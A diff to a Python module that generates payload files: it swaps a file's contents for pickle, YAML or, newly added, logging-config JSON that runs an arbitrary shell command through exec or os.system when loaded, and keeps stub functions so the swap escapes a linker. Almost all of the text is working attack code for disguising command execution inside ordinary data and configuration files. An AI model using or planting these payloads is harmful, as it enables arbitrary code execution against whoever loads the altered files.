@@ -26,12 +26,19 @@ _STARTING = {
     (".pkl", ".pickle"): f"cbuiltins\nexec\n(S'{_UNPICKLED}'\ntR.",
     (".yaml", ".yml"): f"!!python/object/apply:builtins.exec ['{_UNPICKLED}']\n",
 }
+_CONFIGURED = (
+    '{"version": 1, "formatters": {"a": {"()": "os.system", "command": "COMMAND"}, "b": {"()": "os._exit", "status": 0}}}'
+)
+"""JSON for Python's logging, which calls what it names."""
 _FUNCTION = re.compile(r"(?m)^((?!static|typedef|struct \w+ *\{)\w[\w \t*]*\([^;{}]*\))\s*\{")
 
 
 def starting(path: str, command: str, text: str) -> str:
     """Return such a program in place of ``text``, whose functions a linker still finds; empty for a language that is not known."""
-    made = next((made for suffixes, made in _STARTING.items() if path.endswith(suffixes)), "").replace("COMMAND", command)
+    made = next((made for suffixes, made in _STARTING.items() if path.endswith(suffixes)), "")
+    if path.endswith(".json") and re.search(r'"(?:handlers|formatters)"', text):
+        made = _CONFIGURED
+    made = made.replace("COMMAND", command)
     return made + empty_functions(text) if made and path.endswith(C) else made
 
 
